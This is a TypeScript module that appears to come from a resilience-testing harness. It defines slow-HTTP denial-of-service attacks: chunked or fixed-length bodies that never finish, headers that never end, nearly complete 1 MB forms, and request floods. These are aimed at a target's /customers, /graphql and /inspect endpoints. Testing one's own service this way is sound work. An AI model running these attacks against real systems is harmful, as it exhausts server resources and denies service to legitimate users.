/** Attacks with slow, missing or incomplete HTTP/1.1 heads and bodies. */
import type { Target } from "../target.ts";
import type { Attack } from "./attack.ts";

const encoder = new TextEncoder();
const CHUNK = "1\r\n{\r\n";

function post(path: string, headers: Record<string, string>): string {
  const lines = Object.entries({ host: "attacker", "content-type": "application/json", ...headers });
  return `POST ${path} HTTP/1.1\r\n${lines.map(([name, value]) => `${name}: ${value}\r\n`).join("")}\r\n`;
}

const chunked = { "transfer-encoding": "chunked" };

/** Connections that send a string and then nothing. */
function silentAfter(count: number, textOf: (target: Target) => string, more = new Uint8Array(0)) {
  return (target: Target) => {
    const bytes = encoder.encode(textOf(target));
    return target.crowd(count, async (wire) => {
      if (await wire.send(bytes) && more.length > 0) await wire.send(more);
    });
  };
}

export const BODIES: Attack[] = [
  {
    name: "http-chunked-hold",
    sends: "1,000 shoppers' POST /customers with a chunked body that never ends",
    port: "http",
    token: "customer",
    run: silentAfter(
      1_000,
      ({ tokens }) => post("/customers", { ...chunked, authorization: `Bearer ${tokens.customer}` }) + CHUNK,
    ),
  },
  {
    name: "http-length-hold",
    sends: "1,000 shoppers' POST /customers whose body of a known length does not come, renewed",
    port: "http",
    token: "customer",
    run: (target) => {
      const head = post("/customers", {
        "content-length": "20",
        authorization: `Bearer ${target.tokens.customer}`,
      });
      return target.keep(1_000, async (wire) => {
        await wire.send(encoder.encode(head));
        while (!wire.closed && !target.signal.aborted) await Promise.race([target.ended(), wire.over]);
      });
    },
  },
  {
    name: "http-bulk-hold",
    sends: "1,000 managers' POST /customers/bulk that are silent after one byte",
    port: "http",
    token: "manager",
    run: silentAfter(
      1_000,
      ({ tokens }) =>
        post("/customers/bulk", {
          ...chunked,
          "content-type": "application/x-ndjson",
          authorization: `Bearer ${tokens.manager}`,
        }) + CHUNK,
    ),
  },
  {
    name: "graphql-chunked-hold",
    sends: "3,000 POST /graphql with a chunked body that never ends",
    port: "http",
    run: silentAfter(3_000, () => post("/graphql", chunked) + CHUNK),
  },
  {
    name: "graphql-chunked-90k",
    sends: "1,000 POST /graphql with 90 KB of a chunked body that never ends",
    port: "http",
    bytesPerSecond: 30_000_000,
    run: silentAfter(
      1_000,
      () => post("/graphql", chunked) + "16000\r\n",
      new Uint8Array(0x15fff).fill(0x20),
    ),
  },
  {
    name: "inspect-retry-memory",
    sends: "200 POST /inspect/retry with a form of 1 MB but for its last byte",
    port: "http",
    bytesPerSecond: 40_000_000,
    run: silentAfter(
      200,
      ({ port }) =>
        post("/inspect/retry", {
          "content-type": "application/x-www-form-urlencoded",
          "content-length": "1000001",
          "sec-fetch-site": "same-origin",
          origin: `http://127.0.0.1:${port}`,
        }),
      new Uint8Array(1_000_000).fill(0x61),
    ),
  },
  {
    name: "http-unfinished-headers",
    sends: "1,000 requests whose headers do not end",
    port: "http",
    run: silentAfter(1_000, () => "GET /healthz HTTP/1.1\r\nhost: attacker\r\nx-a: "),
  },
  {
    name: "http-bodies-broken-off",
    sends: "400 chunked bodies a second that break off after one byte",
    port: "http",
    connectionsPerSecond: 400,
    run: (target) => {
      const bytes = encoder.encode(post("/graphql", chunked) + CHUNK);
      return target.keep(8, (wire) => wire.send(bytes));
    },
  },
  {
    name: "http-address-quota",
    sends: "4,000 GET /customers a second without a token, from the address of others",
    port: "http",
    sameAddress: true,
    run: (target) => {
      const hundred = encoder.encode("GET /customers HTTP/1.1\r\nhost: attacker\r\n\r\n".repeat(100));
      return target.keep(8, async (wire) => {
        while (await wire.send(hundred));
      });
    },
    bytesPerSecond: 4_000 * 43,
  },
];
